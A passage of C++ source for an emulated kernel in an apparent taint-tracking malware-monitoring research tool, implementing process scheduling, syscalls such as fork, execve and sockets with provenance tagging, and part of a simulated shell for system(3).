    uint32_t env_array = sp;

    sp -= 4;
    m.mem().write32(sp, 0);
    for (auto it = argv_ptrs.rbegin(); it != argv_ptrs.rend(); ++it) {
        sp -= 4;
        m.mem().write32(sp, *it);
    }
    uint32_t argv_array = sp;

    if (trackTaint_)
        m.shadow().setRange(sp, region_top - sp, userInputTag_);

    m.setReg(Reg::Esp, sp - 64); // headroom below the arg block
    m.setReg(Reg::Eax, (uint32_t)argv.size());
    m.setReg(Reg::Ebx, argv_array);
    m.setReg(Reg::Ecx, env_array);
    if (trackTaint_) {
        m.setRegTag(Reg::Ebx, userInputTag_);
        m.setRegTag(Reg::Ecx, userInputTag_);
    }
}

Process &
Kernel::spawn(const std::string &path,
              const std::vector<std::string> &argv,
              const std::vector<std::string> &env)
{
    auto node = vfs_.lookup(path);
    fatalIf(!node || !node->binary, "spawn: no binary at ", path);

    auto proc = std::make_unique<Process>(nextPid_++, tags_);
    proc->ppid = 0;
    proc->startTime = time_;
    proc->machine.setTaintTracking(trackTaint_);
    proc->machine.setSuperblocks(superblocks_);
    proc->machine.setInstrumentor(instrumentor_);
    proc->machine.setSpanTracer(spanTracer_);
    setupStdio(*proc);
    loadProcessImages(*proc, path, node->binary);
    buildInitialStack(*proc, argv, env);

    Process &ref = *proc;
    processes_.push_back(std::move(proc));
    ++stats_.processesCreated;
    if (monitor_)
        monitor_->processStarted(*this, ref);
    return ref;
}

Process *
Kernel::process(int pid)
{
    for (auto &p : processes_)
        if (p->pid == pid)
            return p.get();
    return nullptr;
}

size_t
Kernel::liveProcessCount() const
{
    size_t n = 0;
    for (const auto &p : processes_)
        if (p->state != ProcState::Zombie)
            ++n;
    return n;
}

void
Kernel::exitProcess(Process &p, int code)
{
    if (p.state == ProcState::Zombie)
        return;
    // Release FIFO writer references so readers see EOF.
    for (auto &[fd, f] : p.fds) {
        if (f->kind == OpenFile::Kind::Fifo && f->writable && f->node)
            --f->node->fifoWriters;
        if (f->kind == OpenFile::Kind::Socket && f->sock)
            net_.close(*f->sock);
    }
    p.fds.clear();
    p.state = ProcState::Zombie;
    p.exitCode = code;
    p.machine.setHalted();
    if (monitor_)
        monitor_->processExited(*this, p, code);
}

//
// Scheduler
//

RunStatus
Kernel::run(uint64_t max_ticks)
{
    // One phase switch for the whole scheduler loop: steady-state
    // guest execution costs no clock reads. Syscall and native
    // handlers re-attribute their own slices.
    obs::PhaseScope vm(profiler_, obs::Phase::VmExecute);
    const uint64_t deadline = time_ + max_ticks;
    while (time_ < deadline) {
        size_t live = 0;
        bool any_runnable = false;
        for (auto &p : processes_) {
            if (p->state == ProcState::Blocked) {
                if (p->sleeping && time_ >= p->sleepUntil) {
                    p->sleeping = false;
                    p->state = ProcState::Runnable;
                } else if (p->wakeCondition && p->wakeCondition()) {
                    p->wakeCondition = nullptr;
                    p->state = ProcState::Runnable;
                }
            }
            if (p->state != ProcState::Zombie)
                ++live;
            if (p->state == ProcState::Runnable)
                any_runnable = true;
        }
        if (live == 0)
            return RunStatus::Done;
        if (!any_runnable) {
            // Everything is blocked: jump time to the next sleeper.
            uint64_t min_wake = UINT64_MAX;
            for (auto &p : processes_)
                if (p->state == ProcState::Blocked && p->sleeping)
                    min_wake = std::min(min_wake, p->sleepUntil);
            if (min_wake == UINT64_MAX)
                return RunStatus::Stalled;
            time_ = min_wake;
            continue;
        }
        const size_t count = processes_.size();
        for (size_t i = 0; i < count && time_ < deadline; ++i) {
            Process &p = *processes_[i];
            if (p.state != ProcState::Runnable)
                continue;
            ++stats_.contextSwitches;
            // A lone process cannot be preempted and cannot wake
            // anyone: slicing it into QUANTUM-sized runs is pure
            // scheduler overhead (and forces the VM to pause hot
            // traces every QUANTUM instructions). Hand it the whole
            // remaining tick budget instead — runQuantum bails the
            // moment a fork/spawn ends the solo guarantee, and time
            // advances by executed instructions either way, so every
            // event timestamp is identical. With company present the
            // round-robin QUANTUM cadence is unchanged.
            runQuantum(p, live == 1 ? deadline - time_ : QUANTUM);
        }
    }
    return RunStatus::TickLimit;
}

void
Kernel::runQuantum(Process &p, uint64_t budget)
{
    // Let the machine burn through whole decoded blocks and only
    // come back when the kernel must act; ticks advance in bulk by
    // the retired-instruction count (one tick per instruction, as
    // before).
    const size_t procs0 = processes_.size();
    while (budget && p.state == ProcState::Runnable) {
        uint64_t executed = 0;
        vm::StepResult res = p.machine.run(budget, executed);
        time_ += executed;
        budget -= executed;
        switch (res.kind) {
          case vm::StepKind::Ok:
            break;
          case vm::StepKind::Syscall:
            handleSyscall(p);
            break;
          case vm::StepKind::Native:
            handleNative(p, std::string(res.nativeName));
            break;
          case vm::StepKind::Halted:
            exitProcess(p, 0);
            return;
          case vm::StepKind::Fault:
            exitProcess(p, 139);
            return;
        }
        if (processes_.size() != procs0)
            return; // fork/spawn: back to round-robin scheduling
    }
}

void
Kernel::blockProcess(Process &p, std::function<bool()> cond)
{
    p.state = ProcState::Blocked;
    p.wakeCondition = std::move(cond);
}

void
Kernel::restartSyscall(Process &p)
{
    // eip already advanced past int80; rewind so the syscall
    // re-executes when the process wakes.
    p.machine.setEip(p.machine.eip() - vm::INSN_SIZE);
}

//
// Monitoring plumbing
//

ResourceId
Kernel::fdResource(const Process &p, int fd) const
{
    auto it = p.fds.find(fd);
    if (it == p.fds.end())
        return taint::NO_RESOURCE;
    return it->second->resource;
}

const taint::Resource &
Kernel::resource(ResourceId id) const
{
    static const taint::Resource unknown{SourceType::Unknown,
                                         "<unknown>", 0};
    if (id == taint::NO_RESOURCE)
        return unknown;
    return resources_.get(id);
}

void
Kernel::emitSyscallEvent(Process &p, const SyscallView &view)
{
    if (monitor_)
        monitor_->syscallEvent(*this, p, view);
}

SyscallView
Kernel::fdView(Process &p, int number, int fd) const
{
    SyscallView view;
    view.number = number;
    view.name = syscallName(number);
    ResourceId res = fdResource(p, fd);
    view.resource = res;
    if (res != taint::NO_RESOURCE) {
        const taint::Resource &r = resource(res);
        view.resName = r.name;
        view.resType = r.type;
        view.resNameTags = r.nameOrigin;
    }
    auto it = p.fds.find(fd);
    if (it != p.fds.end() &&
        it->second->serverResource != taint::NO_RESOURCE) {
        view.viaServer = true;
        view.serverResource = it->second->serverResource;
    }
    return view;
}

//
// System calls
//

void
Kernel::handleSyscall(Process &p)
{
    obs::PhaseScope os(profiler_, obs::Phase::Kernel);
    ++stats_.syscalls;
    vm::Machine &m = p.machine;
    const int num = (int)m.reg(Reg::Eax);
    if (num >= 0 && (size_t)num < stats_.syscallsByNumber.size())
        ++stats_.syscallsByNumber[num];
    switch (num) {
      case NR_open:
      case NR_creat:
      case NR_unlink:
      case NR_mknod:
      case NR_chmod:
        ++stats_.vfsOps;
        break;
      default:
        break;
    }

    switch (num) {
      case NR_exit:
        exitProcess(p, (int)m.reg(Reg::Ebx));
        return;
      case NR_fork:
        sysFork(p, false);
        return;
      case NR_clone:
        sysFork(p, true);
        return;
      case NR_read:
        sysRead(p);
        return;
      case NR_write:
        sysWrite(p);
        return;
      case NR_open:
        sysOpen(p, false);
        return;
      case NR_creat:
        sysOpen(p, true);
        return;
      case NR_close:
        sysClose(p);
        return;
      case NR_waitpid:
        sysWaitpid(p);
        return;
      case NR_unlink:
        sysUnlink(p);
        return;
      case NR_execve:
        sysExecve(p);
        return;
      case NR_chdir:
      case NR_ioctl:
        m.setReg(Reg::Eax, 0);
        return;
      case NR_time:
        m.setReg(Reg::Eax, (uint32_t)time_);
        return;
      case NR_mknod:
        sysMknod(p);
        return;
      case NR_chmod:
        sysChmod(p);
        return;
      case NR_getpid:
        m.setReg(Reg::Eax, (uint32_t)p.pid);
        return;
      case NR_getppid:
        m.setReg(Reg::Eax, (uint32_t)p.ppid);
        return;
      case NR_kill:
        sysKill(p);
        return;
      case NR_dup:
        sysDup(p);
        return;
      case NR_dup2:
        sysDup2(p);
        return;
      case NR_pipe:
        sysPipe(p);
        return;
      case NR_brk:
        sysBrk(p);
        return;
      case NR_socketcall:
        sysSocketcall(p);
        return;
      case NR_nanosleep:
        sysNanosleep(p);
        return;
      default:
        m.setReg(Reg::Eax, (uint32_t)-ERR_INVAL);
        return;
    }
}

void
Kernel::sysFork(Process &p, bool is_clone)
{
    vm::Machine &m = p.machine;
    if (liveProcessCount() >= processLimit_) {
        m.setReg(Reg::Eax, (uint32_t)-ERR_PERM);
        return;
    }

    SyscallView view;
    view.number = is_clone ? NR_clone : NR_fork;
    view.name = syscallName(view.number);
    view.isProcessCreate = true;
    emitSyscallEvent(p, view);

    auto child = std::make_unique<Process>(nextPid_++, tags_);
    child->ppid = p.pid;
    child->startTime = time_;
    child->binaryPath = p.binaryPath;
    child->machine = p.machine.cloneForFork();
    child->fds = p.fds;
    child->nextFd = p.nextFd;
    child->stdinData = p.stdinData;
    child->stdinPos = p.stdinPos;
    child->brk = p.brk;
    for (auto &[fd, f] : child->fds)
        if (f->kind == OpenFile::Kind::Fifo && f->writable && f->node)
            ++f->node->fifoWriters;

    child->machine.setReg(Reg::Eax, 0);
    m.setReg(Reg::Eax, (uint32_t)child->pid);
    Process &ref = *child;
    processes_.push_back(std::move(child));
    ++stats_.processesCreated;
    if (monitor_)
        monitor_->processStarted(*this, ref);
}

int
Kernel::doRead(Process &p, OpenFile &f, uint32_t buf, uint32_t len)
{
    // Bulk tagged copies: this is source-tag application, the
    // paper's "taint propagation" cost outside the interpreter.
    obs::PhaseScope taint(profiler_, obs::Phase::TaintOps);
    vm::Machine &m = p.machine;
    switch (f.kind) {
      case OpenFile::Kind::Stdin: {
        size_t avail = p.stdinData.size() - p.stdinPos;
        size_t n = std::min<size_t>(avail, len);
        TagSetId tag = tags_.single({SourceType::UserInput, stdinRes_});
        m.writeTagged(buf, p.stdinData.data() + p.stdinPos, n, tag);
        p.stdinPos += n;
        stats_.stdinBytesRead += n;
        return (int)n;
      }
      case OpenFile::Kind::File: {
        if (!f.node)
            return -ERR_BADF;
        size_t avail = f.node->content.size() > f.offset
                           ? f.node->content.size() - f.offset
                           : 0;
        size_t n = std::min<size_t>(avail, len);
        TagSetId tag =
            tags_.single({SourceType::File, f.resource});
        m.writeTagged(buf, f.node->content.data() + f.offset, n, tag);
        f.offset += n;
        return (int)n;
      }
      case OpenFile::Kind::Fifo: {
        size_t n = std::min<size_t>(f.node->fifo.size(), len);
        TagSetId tag =
            tags_.single({SourceType::File, f.resource});
        for (size_t i = 0; i < n; ++i) {
            uint8_t b = f.node->fifo.front();
            f.node->fifo.pop_front();
            m.writeTagged(buf + (uint32_t)i, &b, 1, tag);
        }
        return (int)n;
      }
      case OpenFile::Kind::Socket: {
        size_t n = std::min<size_t>(f.sock->inbox.size(), len);
        TagSetId tag =
            tags_.single({SourceType::Socket, f.resource});
        for (size_t i = 0; i < n; ++i) {
            uint8_t b = f.sock->inbox.front();
            f.sock->inbox.pop_front();
            m.writeTagged(buf + (uint32_t)i, &b, 1, tag);
        }
        stats_.socketBytesRead += n;
        return (int)n;
      }
      case OpenFile::Kind::Stdout:
        return -ERR_BADF;
    }
    return -ERR_BADF;
}

void
Kernel::sysRead(Process &p)
{
    vm::Machine &m = p.machine;
    const int fd = (int)m.reg(Reg::Ebx);
    const uint32_t buf = m.reg(Reg::Ecx);
    const uint32_t len = m.reg(Reg::Edx);

    auto it = p.fds.find(fd);
    if (it == p.fds.end() || !it->second->readable) {
        m.setReg(Reg::Eax, (uint32_t)-ERR_BADF);
        return;
    }
    OpenFile &f = *it->second;

    // Would-block checks (before the monitor event fires).
    if (f.kind == OpenFile::Kind::Fifo && f.node->fifo.empty() &&
        f.node->fifoWriters > 0) {
        restartSyscall(p);
        VfsNode *node = f.node.get();
        blockProcess(p, [node] {
            return !node->fifo.empty() || node->fifoWriters == 0;
        });
        return;
    }
    if (f.kind == OpenFile::Kind::Socket && f.sock->inbox.empty() &&
        f.sock->connected && !f.sock->peerClosed) {
        restartSyscall(p);
        Socket *sock = f.sock.get();
        blockProcess(p, [sock] {
            return !sock->inbox.empty() || sock->peerClosed ||
                   !sock->connected;
        });
        return;
    }

    SyscallView view = fdView(p, NR_read, fd);
    view.isRead = true;
    view.buf = buf;
    view.len = len;
    emitSyscallEvent(p, view);

    m.setReg(Reg::Eax, (uint32_t)doRead(p, f, buf, len));
}

void
Kernel::doWrite(Process &p, OpenFile &f, uint32_t buf, uint32_t len)
{
    obs::PhaseScope taint(profiler_, obs::Phase::TaintOps);
    vm::Machine &m = p.machine;
    std::vector<uint8_t> data(len);
    m.mem().readBytes(buf, data.data(), len);
    switch (f.kind) {
      case OpenFile::Kind::Stdout:
        p.stdoutData.append((const char *)data.data(), len);
        break;
      case OpenFile::Kind::File:
        if (f.node->content.size() < f.offset + len)
            f.node->content.resize(f.offset + len);
        std::copy(data.begin(), data.end(),
                  f.node->content.begin() + (long)f.offset);
        f.offset += len;
        break;
      case OpenFile::Kind::Fifo:
        for (uint8_t b : data)
            f.node->fifo.push_back(b);
        break;
      case OpenFile::Kind::Socket:
        net_.deliver(*f.sock, data.data(), len);
        break;
      case OpenFile::Kind::Stdin:
        break;
    }
}

void
Kernel::sysWrite(Process &p)
{
    vm::Machine &m = p.machine;
    const int fd = (int)m.reg(Reg::Ebx);
    const uint32_t buf = m.reg(Reg::Ecx);
    const uint32_t len = m.reg(Reg::Edx);

    auto it = p.fds.find(fd);
    if (it == p.fds.end() || !it->second->writable) {
        m.setReg(Reg::Eax, (uint32_t)-ERR_BADF);
        return;
    }
    OpenFile &f = *it->second;

    SyscallView view = fdView(p, NR_write, fd);
    view.isWrite = true;
    view.buf = buf;
    view.len = len;
    if (trackTaint_)
        view.dataTags = m.rangeTags(buf, len);
    emitSyscallEvent(p, view);

    doWrite(p, f, buf, len);
    m.setReg(Reg::Eax, len);
}

void
Kernel::sysOpen(Process &p, bool creat_mode)
{
    vm::Machine &m = p.machine;
    const uint32_t path_ptr = m.reg(Reg::Ebx);
    const std::string path = m.mem().readCString(path_ptr);
    uint32_t flags = creat_mode ? (O_CREAT | O_TRUNC | O_WRONLY)
                                : m.reg(Reg::Ecx);
    const TagSetId name_tags =
        trackTaint_ ? m.stringTags(path_ptr) : TagStore::EMPTY;

    SyscallView view;
    view.number = creat_mode ? NR_creat : NR_open;
    view.name = syscallName(view.number);
    view.resName = path;
    view.resType = SourceType::File;
    view.resNameTags = name_tags;
    emitSyscallEvent(p, view);

    auto node = vfs_.lookup(path);
    if (!node) {
        if (!(flags & O_CREAT)) {
            m.setReg(Reg::Eax, (uint32_t)-ERR_NOENT);
            return;
        }
        node = vfs_.createFile(path);
    } else if (flags & O_TRUNC) {
        node->content.clear();
    }

    auto f = std::make_shared<OpenFile>();
    f->kind = node->kind == VfsNode::Kind::Fifo ? OpenFile::Kind::Fifo
                                                : OpenFile::Kind::File;
    f->node = node;
    f->readable = !(flags & O_WRONLY);
    f->writable = (flags & (O_WRONLY | O_RDWR)) != 0;
    f->resource = resources_.add(SourceType::File, path, name_tags);
    if (f->kind == OpenFile::Kind::Fifo && f->writable)
        ++node->fifoWriters;

    int fd = p.allocFd();
    p.fds[fd] = f;
    m.setReg(Reg::Eax, (uint32_t)fd);
}

void
Kernel::sysClose(Process &p)
{
    vm::Machine &m = p.machine;
    const int fd = (int)m.reg(Reg::Ebx);
    auto it = p.fds.find(fd);
    if (it == p.fds.end()) {
        m.setReg(Reg::Eax, (uint32_t)-ERR_BADF);
        return;
    }
    SyscallView view = fdView(p, NR_close, fd);
    emitSyscallEvent(p, view);

    OpenFile &f = *it->second;
    if (f.kind == OpenFile::Kind::Fifo && f.writable && f.node)
        --f.node->fifoWriters;
    if (f.kind == OpenFile::Kind::Socket && f.sock &&
        it->second.use_count() == 1)
        net_.close(*f.sock);
    p.fds.erase(it);
    m.setReg(Reg::Eax, 0);
}

void
Kernel::sysWaitpid(Process &p)
{
    vm::Machine &m = p.machine;
    const int want = (int)m.reg(Reg::Ebx);

    Process *zombie = nullptr;
    bool has_child = false;
    for (auto &c : processes_) {
        if (c->ppid != p.pid)
            continue;
        if (want > 0 && c->pid != want)
            continue;
        has_child = true;
        if (c->state == ProcState::Zombie) {
            zombie = c.get();
            break;
        }
    }
    if (!has_child) {
        m.setReg(Reg::Eax, (uint32_t)-ERR_CHILD);
        return;
    }
    if (!zombie) {
        restartSyscall(p);
        Kernel *self = this;
        int parent = p.pid;
        blockProcess(p, [self, parent, want] {
            for (auto &c : self->processes_)
                if (c->ppid == parent &&
                    (want <= 0 || c->pid == want) &&
                    c->state == ProcState::Zombie)
                    return true;
            return false;
        });
        return;
    }
    zombie->ppid = -1; // reaped
    m.setReg(Reg::Eax, (uint32_t)zombie->pid);
}

void
Kernel::sysUnlink(Process &p)
{
    vm::Machine &m = p.machine;
    const uint32_t path_ptr = m.reg(Reg::Ebx);
    const std::string path = m.mem().readCString(path_ptr);

    SyscallView view;
    view.number = NR_unlink;
    view.name = "SYS_unlink";
    view.resName = path;
    view.resType = SourceType::File;
    view.resNameTags =
        trackTaint_ ? m.stringTags(path_ptr) : TagStore::EMPTY;
    emitSyscallEvent(p, view);

    m.setReg(Reg::Eax, vfs_.remove(path) ? 0 : (uint32_t)-ERR_NOENT);
}

void
Kernel::sysExecve(Process &p)
{
    vm::Machine &m = p.machine;
    const uint32_t path_ptr = m.reg(Reg::Ebx);
    const uint32_t argv_ptr = m.reg(Reg::Ecx);
    const uint32_t env_ptr = m.reg(Reg::Edx);
    const std::string path = m.mem().readCString(path_ptr);

    SyscallView view;
    view.number = NR_execve;
    view.name = "SYS_execve";
    view.resName = path;
    view.resType = SourceType::File;
    view.resNameTags =
        trackTaint_ ? m.stringTags(path_ptr) : TagStore::EMPTY;
    emitSyscallEvent(p, view);

    auto node = vfs_.lookup(path);
    if (!node) {
        m.setReg(Reg::Eax, (uint32_t)-ERR_NOENT);
        return;
    }
    if (!node->binary || !node->executable) {
        // e.g. the Tic-Tac-Toe trojan's dropped text file: monitored,
        // but not a loadable image (paper §8.4.3 footnote 9).
        m.setReg(Reg::Eax, (uint32_t)-ERR_NOEXEC);
        return;
    }

    // Capture argv/env strings before the address space is replaced.
    auto read_vec = [&m](uint32_t array) {
        std::vector<std::string> out;
        if (!array)
            return out;
        for (int i = 0; i < 64; ++i) {
            uint32_t sp = m.mem().read32(array + (uint32_t)i * 4);
            if (!sp)
                break;
            out.push_back(m.mem().readCString(sp));
        }
        return out;
    };
    std::vector<std::string> argv = read_vec(argv_ptr);
    std::vector<std::string> env = read_vec(env_ptr);
    if (argv.empty())
        argv.push_back(path);

    m.resetForExec();
    loadProcessImages(p, path, node->binary);
    buildInitialStack(p, argv, env);
    p.startTime = time_;
    if (monitor_)
        monitor_->processStarted(*this, p);
}

void
Kernel::sysMknod(Process &p)
{
    vm::Machine &m = p.machine;
    const uint32_t path_ptr = m.reg(Reg::Ebx);
    const std::string path = m.mem().readCString(path_ptr);

    SyscallView view;
    view.number = NR_mknod;
    view.name = "SYS_mknod";
    view.resName = path;
    view.resType = SourceType::File;
    view.resNameTags =
        trackTaint_ ? m.stringTags(path_ptr) : TagStore::EMPTY;
    emitSyscallEvent(p, view);

    if (vfs_.exists(path)) {
        m.setReg(Reg::Eax, (uint32_t)-ERR_EXIST);
        return;
    }
    vfs_.createFifo(path);
    m.setReg(Reg::Eax, 0);
}

void
Kernel::sysChmod(Process &p)
{
    vm::Machine &m = p.machine;
    const uint32_t path_ptr = m.reg(Reg::Ebx);
    const std::string path = m.mem().readCString(path_ptr);

    SyscallView view;
    view.number = NR_chmod;
    view.name = "SYS_chmod";
    view.resName = path;
    view.resType = SourceType::File;
    view.resNameTags =
        trackTaint_ ? m.stringTags(path_ptr) : TagStore::EMPTY;
    emitSyscallEvent(p, view);

    auto node = vfs_.lookup(path);
    if (!node) {
        m.setReg(Reg::Eax, (uint32_t)-ERR_NOENT);
        return;
    }
    node->executable = true;
    m.setReg(Reg::Eax, 0);
}

void
Kernel::sysKill(Process &p)
{
    vm::Machine &m = p.machine;
    Process *target = process((int)m.reg(Reg::Ebx));
    if (!target || target->state == ProcState::Zombie) {
        m.setReg(Reg::Eax, (uint32_t)-ERR_NOENT);
        return;
    }
    exitProcess(*target, 128 + (int)m.reg(Reg::Ecx));
    if (&p != target)
        m.setReg(Reg::Eax, 0);
}

void
Kernel::sysDup(Process &p)
{
    vm::Machine &m = p.machine;
    auto it = p.fds.find((int)m.reg(Reg::Ebx));
    if (it == p.fds.end()) {
        m.setReg(Reg::Eax, (uint32_t)-ERR_BADF);
        return;
    }
    SyscallView view = fdView(p, NR_dup, (int)m.reg(Reg::Ebx));
    emitSyscallEvent(p, view);

    OpenFile &f = *it->second;
    if (f.kind == OpenFile::Kind::Fifo && f.writable && f.node)
        ++f.node->fifoWriters;
    int fd = p.allocFd();
    p.fds[fd] = it->second;
    m.setReg(Reg::Eax, (uint32_t)fd);
}

void
Kernel::sysDup2(Process &p)
{
    vm::Machine &m = p.machine;
    auto it = p.fds.find((int)m.reg(Reg::Ebx));
    if (it == p.fds.end()) {
        m.setReg(Reg::Eax, (uint32_t)-ERR_BADF);
        return;
    }
    int newfd = (int)m.reg(Reg::Ecx);
    OpenFile &f = *it->second;
    if (f.kind == OpenFile::Kind::Fifo && f.writable && f.node)
        ++f.node->fifoWriters;
    p.fds[newfd] = it->second;
    m.setReg(Reg::Eax, (uint32_t)newfd);
}

void
Kernel::sysPipe(Process &p)
{
    vm::Machine &m = p.machine;
    // Per-kernel (not static): concurrent fleet sessions must not
    // share a counter, and identical sessions must name their pipes
    // identically run-to-run.
    const std::string name =
        "pipe:[" + std::to_string(++pipeCounter_) + "]";
    auto node = std::make_shared<VfsNode>();
    node->kind = VfsNode::Kind::Fifo;
    node->path = name;

    ResourceId res =
        resources_.add(SourceType::File, name, TagStore::EMPTY);

    auto rd = std::make_shared<OpenFile>();
    rd->kind = OpenFile::Kind::Fifo;
    rd->node = node;
    rd->writable = false;
    rd->resource = res;

    auto wr = std::make_shared<OpenFile>();
    wr->kind = OpenFile::Kind::Fifo;
    wr->node = node;
    wr->readable = false;
    wr->resource = res;
    ++node->fifoWriters;

    int rfd = p.allocFd();
    p.fds[rfd] = rd;
    int wfd = p.allocFd();
    p.fds[wfd] = wr;

    uint32_t out = m.reg(Reg::Ebx);
    m.mem().write32(out, (uint32_t)rfd);
    m.mem().write32(out + 4, (uint32_t)wfd);
    m.setReg(Reg::Eax, 0);
}

void
Kernel::sysBrk(Process &p)
{
    vm::Machine &m = p.machine;
    uint32_t want = m.reg(Reg::Ebx);
    if (want) {
        if (want > p.brk) {
            // Report heap growth so the memory-abuse policy (the
            // paper's §10 extension 4) can account for it.
            SyscallView view;
            view.number = NR_brk;
            view.name = "SYS_brk";
            view.amount = want - p.brk;
            emitSyscallEvent(p, view);
        }
        p.brk = want;
    }
    m.setReg(Reg::Eax, p.brk);
}

void
Kernel::sysSocketcall(Process &p)
{
    vm::Machine &m = p.machine;
    const int op = (int)m.reg(Reg::Ebx);
    const uint32_t args = m.reg(Reg::Ecx);
    auto arg = [&m, args](int i) {
        return m.mem().read32(args + (uint32_t)i * 4);
    };

    switch (op) {
      case SOCKOP_socket: {
        auto f = std::make_shared<OpenFile>();
        f->kind = OpenFile::Kind::Socket;
        f->sock = std::make_shared<Socket>();
        int fd = p.allocFd();
        p.fds[fd] = f;
        m.setReg(Reg::Eax, (uint32_t)fd);
        return;
      }
      case SOCKOP_bind: {
        auto it = p.fds.find((int)arg(0));
        if (it == p.fds.end() || !it->second->sock) {
            m.setReg(Reg::Eax, (uint32_t)-ERR_BADF);
            return;
        }
        const uint32_t addr_ptr = arg(1);
        const std::string addr =
            net_.canonical(m.mem().readCString(addr_ptr));
        const TagSetId name_tags =
            trackTaint_ ? m.stringTags(addr_ptr) : TagStore::EMPTY;

        SyscallView view;
        view.number = NR_socketcall;
        view.name = "SYS_bind";
        view.resName = addr;
        view.resType = SourceType::Socket;
        view.resNameTags = name_tags;
        emitSyscallEvent(p, view);

        it->second->sock->localAddr = addr;
        it->second->sock->bound = true;
        it->second->resource =
            resources_.add(SourceType::Socket, addr, name_tags);
        m.setReg(Reg::Eax, 0);
        return;
      }
      case SOCKOP_listen: {
        auto it = p.fds.find((int)arg(0));
        if (it == p.fds.end() || !it->second->sock ||
            !it->second->sock->bound) {
            m.setReg(Reg::Eax, (uint32_t)-ERR_BADF);
            return;
        }
        SyscallView view = fdView(p, NR_socketcall, (int)arg(0));
        view.name = "SYS_listen";
        emitSyscallEvent(p, view);

        it->second->sock->listening = true;
        net_.registerListener(it->second->sock->localAddr,
                              it->second->sock);
        m.setReg(Reg::Eax, 0);
        return;
      }
      case SOCKOP_connect: {
        auto it = p.fds.find((int)arg(0));
        if (it == p.fds.end() || !it->second->sock) {
            m.setReg(Reg::Eax, (uint32_t)-ERR_BADF);
            return;
        }
        const uint32_t addr_ptr = arg(1);
        const std::string addr =
            net_.canonical(m.mem().readCString(addr_ptr));
        const TagSetId name_tags =
            trackTaint_ ? m.stringTags(addr_ptr) : TagStore::EMPTY;

        SyscallView view;
        view.number = NR_socketcall;
        view.name = "SYS_connect";
        view.resName = addr;
        view.resType = SourceType::Socket;
        view.resNameTags = name_tags;
        emitSyscallEvent(p, view);

        if (!net_.connect(it->second->sock, addr)) {
            m.setReg(Reg::Eax, (uint32_t)-ERR_CONNREFUSED);
            return;
        }
        it->second->resource =
            resources_.add(SourceType::Socket, addr, name_tags);
        m.setReg(Reg::Eax, 0);
        return;
      }
      case SOCKOP_accept: {
        auto it = p.fds.find((int)arg(0));
        if (it == p.fds.end() || !it->second->sock ||
            !it->second->sock->listening) {
            m.setReg(Reg::Eax, (uint32_t)-ERR_BADF);
            return;
        }
        Socket *listener = it->second->sock.get();
        if (listener->pendingAccept.empty()) {
            restartSyscall(p);
            blockProcess(p, [listener] {
                return !listener->pendingAccept.empty();
            });
            return;
        }
        std::shared_ptr<Socket> conn = listener->pendingAccept.front();
        listener->pendingAccept.pop_front();

        // The accepted peer's address arrived from the network; for
        // policy purposes its provenance is the server socket's
        // (linked via the resource's server field).
        ResourceId listener_res = it->second->resource;
        TagSetId peer_tags = TagStore::EMPTY;
        ResourceId res = resources_.add(
            SourceType::Socket, net_.canonical(conn->peerAddr),
            peer_tags, listener_res);

        auto f = std::make_shared<OpenFile>();
        f->kind = OpenFile::Kind::Socket;
        f->sock = conn;
        f->resource = res;
        f->serverResource = listener_res;
        int fd = p.allocFd();
        p.fds[fd] = f;

        SyscallView view;
        view.number = NR_socketcall;
        view.name = "SYS_accept";
        view.resName = net_.canonical(conn->peerAddr);
        view.resType = SourceType::Socket;
        view.resNameTags = peer_tags;
        view.resource = res;
        view.viaServer = true;
        view.serverResource = listener_res;
        emitSyscallEvent(p, view);

        m.setReg(Reg::Eax, (uint32_t)fd);
        return;
      }
      case SOCKOP_send:
      case SOCKOP_recv: {
        // Delegate to read/write with the socketcall argument block,
        // preserving the guest's argument registers.
        const uint32_t save_ebx = m.reg(Reg::Ebx);
        const uint32_t save_ecx = m.reg(Reg::Ecx);
        const uint32_t save_edx = m.reg(Reg::Edx);
        m.setReg(Reg::Eax, op == SOCKOP_send ? NR_write : NR_read);
        m.setReg(Reg::Ebx, arg(0));
        m.setReg(Reg::Ecx, arg(1));
        m.setReg(Reg::Edx, arg(2));
        if (op == SOCKOP_send)
            sysWrite(p);
        else
            sysRead(p);
        m.setReg(Reg::Ebx, save_ebx);
        m.setReg(Reg::Ecx, save_ecx);
        m.setReg(Reg::Edx, save_edx);
        if (p.state == ProcState::Blocked && !p.sleeping) {
            // The delegate rewound the int80 for a restart; the
            // retry must re-enter as a socketcall.
            m.setReg(Reg::Eax, NR_socketcall);
        }
        return;
      }
      default:
        m.setReg(Reg::Eax, (uint32_t)-ERR_INVAL);
        return;
    }
}

void
Kernel::sysNanosleep(Process &p)
{
    vm::Machine &m = p.machine;
    uint64_t ticks = m.reg(Reg::Ebx);
    m.setReg(Reg::Eax, 0);
    p.sleeping = true;
    p.sleepUntil = time_ + ticks;
    p.state = ProcState::Blocked;
}

//
// Native library routines
//

void
Kernel::handleNative(Process &p, const std::string &name)
{
    obs::PhaseScope os(profiler_, obs::Phase::Kernel);
    ++stats_.nativeCalls;
    auto it = natives_.find(name);
    fatalIf(it == natives_.end(), "no native handler for ", name);
    if (monitor_)
        monitor_->nativePre(*this, p, name);
    it->second(*this, p);
    if (monitor_)
        monitor_->nativePost(*this, p, name);
}

//
// The simulated libc system(3): a miniature shell.
//

int
Kernel::runShellCommand(Process &p, const std::string &command,
                        taint::TagSetId cmd_tags)
{
    (void)cmd_tags;
    // system() runs "/bin/sh -c cmd": the only execve the paper's
    // monitor sees names /bin/sh, whose string lives in libc —
    // a trusted binary, so Secpert filters it out (§8.3.1).
    TagSetId libc_tags = TagStore::EMPTY;
    if (!p.machine.images().empty()) {
        libc_tags = tags_.single({SourceType::Binary,
                                  p.machine.images()[0].resource});
    }
    SyscallView view;
    view.number = NR_execve;
    view.name = "SYS_execve";
    view.resName = "/bin/sh";
    view.resType = SourceType::File;
    view.resNameTags = libc_tags;
    emitSyscallEvent(p, view);

    int status = 0;
    for (const std::string &piece : split(command, ';')) {
        std::string cmd = trim(piece);
        if (cmd.empty())
            continue;
        if (endsWith(cmd, "&"))
            cmd = trim(cmd.substr(0, cmd.size() - 1));
        if (cmd.find('|') != std::string::npos) {
            // Pipelines run entirely inside the shell; like the
            // paper's prototype, the monitor sees nothing further.
            continue;
        }

        std::vector<std::string> words = splitWs(cmd);
        std::string stdin_file, stdout_file;
        std::vector<std::string> argv;
        for (const std::string &w : words) {
            if (w == "2>&1")
                continue;
            if (w.size() > 1 && w[0] == '<')
                stdin_file = w.substr(1);
            else if (w.size() > 1 && w[0] == '>')
                stdout_file = w.substr(1);
            else
                argv.push_back(w);
        }
        if (argv.empty())
            continue;

        // Builtin: mknod <path> p
